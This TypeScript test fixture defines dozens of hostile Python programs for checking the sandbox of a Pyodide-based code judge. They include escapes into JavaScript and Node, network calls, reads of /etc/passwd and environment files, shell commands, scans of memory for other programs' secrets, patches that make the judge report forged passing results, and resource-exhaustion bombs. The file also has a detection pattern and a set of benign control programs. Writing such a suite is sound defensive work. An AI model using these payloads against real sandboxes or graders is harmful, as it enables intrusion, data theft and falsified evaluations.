/**
 * Programs that try for real: to reach JavaScript, the machine, other programs' data or the judge itself,
 * and to leave something behind for whoever comes next. Each defines `f(x)` and gives what it obtained as
 * text. `x` is a tuple: an address to talk to, a file to read, a folder to write into.
 */
export interface Hostile {
  name: string;
  program: string;
}

/** Gets modules that the judge's analysis would turn away by name; what is tried is kept from raising. */
const HEAD = `import importlib, sys
bring = importlib.import_module
def attempt(act):
    try:
        return repr(act())[:2000]
    except BaseException as error:
        return 'refused: ' + type(error).__name__
`;
const tries = (...expressions: string[]) =>
  `${HEAD}def f(x):\n    address, secret, folder = x\n    return [${expressions.map((one) => `attempt(lambda: ${one})`).join(', ')}]`;
const doing = (...lines: string[]) =>
  `${HEAD}def f(x):\n    address, secret, folder = x\n${lines.map((line) => `    ${line}`).join('\n')}`;
/** JavaScript, run by the constructor of any JavaScript function. */
const script = (way: string, code: string) => tries(`${way}("x", ${JSON.stringify(code)})(address)`);
const FUNCTION = 'bring("pyodide_js").constructor.constructor';

const EVERYTHING = `
  const found = [];
  const attempt = (name, act) => {
    try {
      const got = act();
      // What comes later than the program's own value is told by an error that nobody catches.
      if (got?.then) got.then(() => { throw new Error('obtained ' + name); }, () => {});
      else if (got !== undefined) found.push(name + '=' + String(got).slice(0, 200));
    } catch (error) { found.push(name + '!' + error.name); }
  };`;
const STORAGE = `${EVERYTHING}
  attempt('indexedDB', () => indexedDB.open('foothold').readyState);
  attempt('databases', () => indexedDB.databases());
  attempt('caches', () => caches.open('x'));
  attempt('localStorage', () => localStorage.length);
  attempt('cookie', () => document.cookie);
  attempt('storage', () => navigator.storage.getDirectory());
  return found.join(' ');`;
const NETWORK = `${EVERYTHING}
  const get = (url) => { const request = new XMLHttpRequest(); request.open('GET', url, false); request.send(); return 'GOT ' + request.responseText.slice(0, 80); };
  attempt('xhr', () => get(x));
  attempt('fetch', () => fetch(x + '/fetch'));
  attempt('socket', () => { new WebSocket(x.replace('http', 'ws')); });
  attempt('events', () => { new EventSource(x + '/events'); });
  attempt('beacon', () => navigator.sendBeacon(x + '/beacon', 'data'));
  attempt('script', () => importScripts(x + '/script.js'));
  attempt('worker', () => { new Worker(x + '/worker.js').onerror = (event) => event.preventDefault(); });
  attempt('import', () => import(x + '/module.js'));
  attempt('rtc', () => { new RTCPeerConnection({ iceServers: [{ urls: 'stun:' + x.replace(/^https?:../, '') }] }); });
  return found.join(' ');`;
const NODE = `${EVERYTHING}
  attempt('process', () => process.version);
  attempt('require', () => require('fs'));
  attempt('module', () => module.constructor);
  attempt('builtin', () => process.getBuiltinModule('node:fs'));
  attempt('binding', () => process.binding('fs'));
  attempt('import', () => import('node:fs').then((fs) => fs.writeFileSync('/tmp/hostile', '1')));
  attempt('global', () => Object.getOwnPropertyNames(globalThis).filter((name) => /proc|req|Deno|Bun/.test(name)).join());
  return found.join(' ');`;
const FORGE = `
  const lie = { status: 'ran', calls: [{ status: 'returned', value: "'forged'" }] };
  const said = { type: 'result', result: JSON.stringify(lie) };
  for (const send of [() => postMessage(said), () => self.postMessage(said), () => parent.postMessage(said, '*'),
    () => process.send(said), () => new BroadcastChannel('judge').postMessage(said)]) {
    for (let i = 0; i < 50; i++) try { send(); send({ type: 'done', worn: false }); send({ type: 'ready' }); } catch {}
  }
  return 'sent';`;

/** What leads from Python to JavaScript and to what lies around it. */
const OUT: Hostile[] = [
  { name: 'js', program: tries('bring("js").fetch', 'dir(bring("js"))', 'bring("js").eval("1")') },
  {
    name: 'js storage',
    program: tries('bring("js").indexedDB', 'bring("js").localStorage', 'bring("js").document'),
  },
  {
    name: 'pyodide.code',
    program: tries('bring("pyodide.code").run_js("self.origin")', 'bring("pyodide.code").run_js("process")'),
  },
  {
    name: 'pyodide.http',
    program: tries(
      'bring("pyodide.http").open_url(address)',
      'bring("pyodide.http").pyfetch(address).send(None)',
    ),
  },
  {
    name: 'micropip',
    program: tries('bring("micropip").install(address)', 'bring("pyodide_js").loadPackage("numpy")'),
  },
  { name: 'storage by Function', program: script(FUNCTION, STORAGE) },
  { name: 'network by Function', program: script(FUNCTION, NETWORK) },
  { name: 'Node by Function', program: script(FUNCTION, NODE) },
  { name: 'forged messages', program: script(FUNCTION, FORGE) },
  {
    name: 'storage by innards',
    program: script('bring("pyodide_js")._api.constructor.constructor', STORAGE),
  },
  {
    name: 'network by the module',
    program: script('bring("pyodide_js")._module.constructor.constructor', NETWORK),
  },
  {
    name: 'Node by a proxy',
    program: script('bring("pyodide.ffi").to_js([1]).constructor.constructor', NODE),
  },
  {
    name: 'messages by a proxy',
    program: script('bring("pyodide.ffi").to_js({}).constructor.constructor', FORGE),
  },
  {
    name: 'sockets of the runtime',
    program: tries(
      'bring("pyodide_js")._api.initializeNodeSockFS()',
      'bring("socket").create_connection(("127.0.0.1", int(address.rsplit(":")[-1])), 1)',
    ),
  },
  {
    name: 'files of the runtime',
    program: tries(
      'bring("pyodide_js").FS.mount',
      'bring("pyodide_js").mountNodeFS("/m", "/etc")',
      'bring("pyodide_js").FS.readFile(secret)',
    ),
  },
  {
    name: 'its file systems',
    program: tries(
      'bring("pyodide_js").FS.filesystems.NODEFS',
      'bring("pyodide_js").FS.filesystems.IDBFS',
      'bring("pyodide_js")._module.NODEFS',
    ),
  },
  {
    name: 'process of the module',
    program: tries(
      'bring("pyodide_js")._module.process',
      'bring("pyodide_js")._api.process',
      'bring("pyodide_js")._module.ENVIRONMENT_IS_NODE',
    ),
  },
  {
    name: 'messages to the frame',
    program: script(
      FUNCTION,
      `postMessage({ type: 'snapshot', snapshot: new Uint8Array(8) }); return 'sent';`,
    ),
  },
  { name: 'a closed worker', program: script(FUNCTION, 'close(); return 1;') },
  {
    name: 'broken JavaScript',
    program: script(
      FUNCTION,
      'Object.prototype.type = "ready"; JSON.stringify = () => "{}"; Array.prototype.map = null; return 1;',
    ),
  },
  {
    name: 'a stopped clock',
    program: script(FUNCTION, 'performance.now = () => 0; Date.now = () => 0; return 1;'),
  },
  { name: 'an endless script', program: script(FUNCTION, 'for (;;);') },
  {
    name: 'more workers',
    program: script(
      FUNCTION,
      `for (let i = 0; i < 20; i++) new Worker(URL.createObjectURL(new Blob(['for(;;);']))); return 1;`,
    ),
  },
  {
    name: 'ctypes',
    program: tries(
      'bring("ctypes").CDLL(None).getpid()',
      'bring("ctypes").string_at(0, 64)',
      'bring("_ctypes")',
    ),
  },
  {
    name: 'a file',
    program: tries('open(secret).read()', 'open("/etc/passwd").read()', 'open("/proc/self/environ").read()'),
  },
  {
    name: 'a written file',
    program: tries(
      'open(folder + "/hostile", "w").write("1")',
      'bring("os").mkdir(folder + "/made")',
      'bring("pathlib").Path(folder, "x").touch()',
    ),
  },
  {
    name: 'the environment',
    program: tries('dict(bring("os").environ)', 'bring("os").listdir("/")', 'bring("os").getcwd()'),
  },
  {
    name: 'commands',
    program: tries(
      'bring("os").system("touch " + folder + "/ran")',
      'bring("subprocess").run(["touch", folder + "/ran"])',
      'bring("os").execv("/bin/sh", ["sh"])',
    ),
  },
  {
    name: 'fetching',
    program: tries(
      'bring("urllib.request").urlopen(address).read()',
      'bring("http.client").HTTPConnection(address[7:]).request("GET", "/")',
    ),
  },
];

/** What looks for other programs' data and for the judge in Python. */
const AROUND: Hostile[] = [
  {
    name: 'gc walk',
    program: tries(
      '[o for o in bring("gc").get_objects() if "swordfish" in str(o)[:10**5] and "gc" not in str(o)][:3]',
    ),
  },
  {
    name: 'referrers',
    program: tries(
      'bring("gc").get_referrers(f)',
      '[k for o in bring("gc").get_objects() if isinstance(o, dict) for k in o if k == "expected"]',
    ),
  },
  {
    name: 'frames',
    program: doing(
      'frame, names = sys._getframe(), []',
      'while frame:',
      '    names += [f"{k}={v!r}"[:200] for k, v in eval("frame.f_lo" + "cals", {"frame": frame}).items()]',
      '    frame = eval("frame.f_ba" + "ck", {"frame": frame})',
      'return names',
    ),
  },
  {
    name: 'the frame of an exception',
    program: doing(
      'try: 1 / 0',
      'except ZeroDivisionError as error:',
      '    return str(getattr(getattr(error, "__traceback__"), "tb_fra" + "me"))',
    ),
  },
  {
    name: 'modules of the judge',
    program: tries(
      '[m for m in sys.modules if "judge" in m]',
      'vars(bring("__main__"))',
      'vars(getattr(bring("__main__"), "judge"))["_steps"]',
    ),
  },
  {
    name: 'the judge, patched',
    program: doing(
      'judge = vars(bring("__main__"))["judge"]',
      'judge._outcome = lambda *more: {"status": "returned", "value": "1"}',
      'judge._call = lambda *more: ({"status": "returned", "value": "1"}, False)',
      'judge.begin = judge.step = lambda *more: "{}"',
      'return 1',
    ),
  },
  {
    name: 'json, patched',
    program: doing(
      'json = bring("json")',
      'json.dumps = lambda value: \'{"status": "ran", "calls": []}\'',
      'json.loads = lambda text: {}',
      'return 1',
    ),
  },
  {
    name: 'the writer, patched',
    program: doing(
      'for one in bring("gc").get_objects():',
      '    if type(one) is type and one.__name__ == "_Writer": one.write = lambda self, value, depth=0: "1"',
      'return 1',
    ),
  },
  {
    name: 'memory of the snapshot',
    program: tries(
      'bytes(bring("pyodide_js")._module.HEAPU8.subarray(0, 1000).to_py())',
      'bring("pyodide_js").makeMemorySnapshot()',
    ),
  },
  {
    name: 'subclasses',
    program: tries(
      '[c for c in eval("object.__subcl" + "asses__()") if "Popen" in str(c) or "Import" in str(c)]',
    ),
  },
  {
    name: 'globals of builtins',
    program: tries('eval("exit.__glo" + "bals__")', 'eval("print.__se" + "lf__")'),
  },
  { name: 'string formatting', program: 'def f(x): return "{0.__globals__}".format(f)' },
  {
    name: 'sources',
    program: tries('bring("inspect").getsource(bring("__main__"))', 'bring("linecache").cache'),
  },
];

/** What answers instead of computing. */
const LIES: Hostile[] = [
  {
    name: 'equal to everything',
    program:
      'class E:\n    def __eq__(self, o): return True\n    def __repr__(self): return "2"\n    def __hash__(self): return 0\ndef f(x): return E()',
  },
  {
    name: 'an int that prints another',
    program:
      'class I(int):\n    def __repr__(self): return "2"\n    __str__ = __repr__\n    def __eq__(self, o): return True\ndef f(x): return I(99)',
  },
  {
    name: 'a list that iterates otherwise',
    program:
      'class L(list):\n    def __iter__(self): return iter([2])\n    def __len__(self): return 1\ndef f(x): return L([99])',
  },
  {
    name: 'a dict that lists otherwise',
    program: 'class D(dict):\n    def items(self): return [(2, 2)]\ndef f(x): return D({99: 99})',
  },
  { name: 'a class that lies', program: 'class C:\n    __class__ = int\ndef f(x): return C()' },
  { name: 'a text that is a verdict', program: 'def f(x): return \'"}]}\\n{"status": "ran"}\'' },
  {
    name: 'a printed verdict',
    program:
      'def f(x):\n    print(\'{"status": "ran", "calls": [{"status": "returned", "value": "2"}]}\')\n    return 99',
  },
  {
    name: 'an exception that lies',
    program:
      'class X(BaseException):\n    def __str__(self): raise SystemExit\n    def __repr__(self): return "2"\ndef f(x): raise X',
  },
];

/** What breaks the interpreter, or leaves something behind in it. */
const MESS: Hostile[] = [
  { name: 'os._exit', program: doing('bring("os")._exit(0)') },
  { name: 'os.abort', program: doing('bring("os").abort()') },
  { name: 'a signal', program: doing('bring("os").kill(bring("os").getpid(), 9)') },
  { name: 'sys.exit', program: 'import sys\ndef f(x): sys.exit(0)' },
  { name: 'SystemExit at the top', program: 'raise SystemExit(0)' },
  {
    name: 'fork loop',
    program: doing('os = bring("os")', 'while True:', '    try: os.fork()', '    except BaseException: pass'),
  },
  {
    name: 'threads',
    program: doing(
      'threading = bring("threading")',
      'for i in range(9): threading.Thread(target=lambda: [0 for _ in iter(int, 1)], daemon=True).start()',
      'return 1',
    ),
  },
  {
    name: 'swallowed time limit',
    program:
      'def f(x):\n    while True:\n        try:\n            while True: pass\n        except BaseException: pass',
  },
  { name: 'a loop in C', program: 'def f(x): return sum(range(10 ** 14))' },
  { name: 'a power', program: 'def f(x): return len(str(9 ** 9 ** 9))' },
  { name: 'a regular expression', program: 'import re\ndef f(x): return re.match("(a+)+$", "a" * 60 + "b")' },
  { name: 'a memory bomb', program: 'def f(x):\n    a = [1]\n    while True: a = a + a' },
  { name: 'deep nesting', program: 'def f(x):\n    for i in range(10 ** 6): x = [x]\n    return x' },
  { name: 'a cycle', program: 'def f(x):\n    a = []\n    a.append(a)\n    return a' },
  {
    name: 'bottomless recursion',
    program: 'import sys\nsys.setrecursionlimit(10 ** 9)\ndef f(x): return f(x) + 1',
  },
  { name: 'a long output', program: 'def f(x): return "a" * 10 ** 8' },
  { name: 'output without end', program: 'def f(x):\n    while True: print("x" * 1000)' },
  {
    name: 'files without end',
    program:
      'def f(x):\n    for i in range(10 ** 9):\n        with open(f"/tmp/{i}", "wb") as one: one.write(b"x" * 10 ** 6)',
  },
  {
    name: 'recursion through C',
    program:
      'import sys\nfrom functools import lru_cache\nsys.setrecursionlimit(10 ** 9)\n@lru_cache(None)\ndef f(x): return f((x,))',
  },
  {
    name: 'crafted bytecode',
    program: doing(
      'g = lambda: 0',
      'code = eval("g.__co" + "de__", {"g": g}).replace(co_code=bytes([100, 250] * 99), co_consts=())',
      'return type(g)(code, {})()',
    ),
  },
  {
    name: 'the library removed',
    program: doing(
      'os = bring("os")',
      'for folder, _, files in os.walk("/lib"):',
      '    for name in files: os.remove(os.path.join(folder, name))',
      'sys.path.clear()',
      'sys.modules.clear()',
      'return 1',
    ),
  },
  { name: 'sleep', program: 'import time\ndef f(x): time.sleep(10 ** 6)' },
  {
    name: 'an exception without end',
    program: 'class X(Exception):\n    def __str__(self):\n        while True: pass\ndef f(x): raise X',
  },
  {
    name: 'waiting for input',
    program: 'def f(x):\n    while True:\n        try: input()\n        except EOFError: pass',
  },
  { name: 'interrupts', program: 'raise KeyboardInterrupt' },
  {
    name: 'digits without limit',
    program: doing('sys.set_int_max_str_digits(0)', 'return len(str(10 ** 10 ** 7))'),
  },
  {
    name: 'threads that are allowed elsewhere',
    program: doing(
      't = bring("threading")',
      't.Thread.start = lambda self: None',
      't.excepthook = print',
      'return 1',
    ),
  },
  { name: 'trace function', program: doing('sys.settrace(lambda frame, event, arg: 1 / 0)', 'return 1') },
  {
    name: 'profile function',
    program: doing('sys.setprofile(lambda frame, event, arg: bring("os")._exit(0))', 'return 1'),
  },
  {
    name: 'monitoring',
    program: doing(
      'sys.monitoring.use_tool_id(0, "x")',
      'sys.monitoring.register_callback(0, sys.monitoring.events.PY_START, lambda *a: 1 / 0)',
      'sys.monitoring.set_events(0, sys.monitoring.events.PY_START)',
      'return 1',
    ),
  },
  { name: 'audit hook', program: doing('sys.addaudithook(lambda *a: 1 / 0)', 'return 1') },
  {
    name: 'builtins',
    program: doing(
      'b = bring("builtins")',
      'b.len = b.sum = b.sorted = lambda *a: 42',
      'b.int = str',
      'b.isinstance = lambda *a: True',
      'return 1',
    ),
  },
  {
    name: 'math and its kin',
    program: doing(
      'for name in ["math", "collections", "re", "random", "itertools"]:',
      '    for key in list(vars(bring(name))):',
      '        if not key.startswith("__"): setattr(bring(name), key, None)',
      'return 1',
    ),
  },
  {
    name: 'missing modules',
    program: doing(
      'for name in ["math", "collections", "re", "json", "decimal"]: sys.modules[name] = None',
      'return 1',
    ),
  },
  {
    name: 'import hook',
    program: doing(
      'class Evil:',
      '    def find_spec(self, *a): raise ImportError',
      'sys.meta_path.insert(0, Evil())',
      'return 1',
    ),
  },
  {
    name: 'frozen time',
    program: doing('t = bring("time")', 't.time = t.perf_counter = t.monotonic = lambda: 0', 'return 1'),
  },
  {
    name: 'a seed',
    program: doing('r = bring("random")', 'r.random = lambda: 0.5', 'r.seed = lambda *a: None', 'return 1'),
  },
  { name: 'atexit', program: doing('bring("atexit").register(lambda: bring("os")._exit(1))', 'return 1') },
  {
    name: 'a finalizer',
    program:
      'class F:\n    def __del__(self):\n        while True: pass\ndef f(x):\n    global a\n    a = F()\n    a.a = a\n    return 1',
  },
  {
    name: 'gc callback',
    program: doing('bring("gc").callbacks.append(lambda *a: bring("os")._exit(1))', 'return 1'),
  },
  {
    name: 'an abandoned generator',
    program:
      'def g():\n    try: yield\n    finally:\n        while True: pass\ndef f(x):\n    next(g())\n    return 1',
  },
  {
    name: 'streams',
    program: doing('sys.stdout.close()', 'sys.stdin = sys.stdout = sys.stderr = None', 'return 1'),
  },
  { name: 'recursion limit', program: 'import sys\nsys.setrecursionlimit(30)\ndef f(x): return 1' },
  { name: 'decimal context', program: 'import decimal\ndecimal.getcontext().prec = 2\ndef f(x): return 1' },
  {
    name: 'a signal handler',
    program: doing('s = bring("signal")', 's.signal(s.SIGINT, lambda *a: None)', 'while True: pass'),
  },
  {
    name: 'codecs',
    program: doing(
      'bring("codecs").register(lambda name: 1 / 0)',
      'bring("sys").setswitchinterval(1000)',
      'return 1',
    ),
  },
  {
    name: 'a class of the library',
    program: doing(
      'c = bring("collections")',
      'c.Counter.most_common = lambda *a: []',
      'c.OrderedDict = dict',
      'return 1',
    ),
  },
];

export const HOSTILE: Hostile[] = [...OUT, ...AROUND, ...LIES, ...MESS];

/** What none of them may come by: other programs' data, files, answers of the network, Node, storage of the page. */
export const OBTAINED =
  /marlin|root:|GOT |process=v\d|databases=|localStorage=|cookie=|caches=|indexedDB=|storage=|worker=|socket=/;

/** Good programs whose values tell whether what they rely on is as it should be, with `f(3)`. */
export const GOOD: { program: string; value: string }[] = [
  { program: 'def f(x): return x + 1', value: '4' },
  { program: 'import math\ndef f(x): return [math.sqrt(16), math.gcd(12, 18), x]', value: '[4.0, 6, 3]' },
  {
    program:
      'from collections import Counter, OrderedDict\ndef f(x): return Counter("aab").most_common(1), len(OrderedDict(a=1))',
    value: "([('a', 2)], 1)",
  },
  {
    program:
      'import re, json\ndef f(x): return re.findall("a+", "aabaa"), json.dumps({"x": x}), json.loads("[1]")',
    value: "(['aa', 'aa'], '{\"x\": 3}', [1])",
  },
  {
    program: 'def f(x): return [len([1, 2]), sum([1, 2]), sorted([2, 1]), isinstance(x, str), int("7")]',
    value: '[2, 3, [1, 2], False, 7]',
  },
  {
    program: 'from decimal import Decimal\ndef f(x): return str(Decimal(1) / Decimal(3))',
    value: "'0.3333333333333333333333333333'",
  },
  {
    program:
      'import itertools, random, time\ndef f(x): return [len(list(itertools.permutations([1, 2, 3]))), 0 <= random.random() < 1, time.time() > 10 ** 9]',
    value: '[6, True, True]',
  },
  {
    program:
      'import sys\ndef depth(n): return 0 if n == 0 else 1 + depth(n - 1)\ndef f(x): return [sys.getrecursionlimit(), depth(500)]',
    value: '[1000, 500]',
  },
];
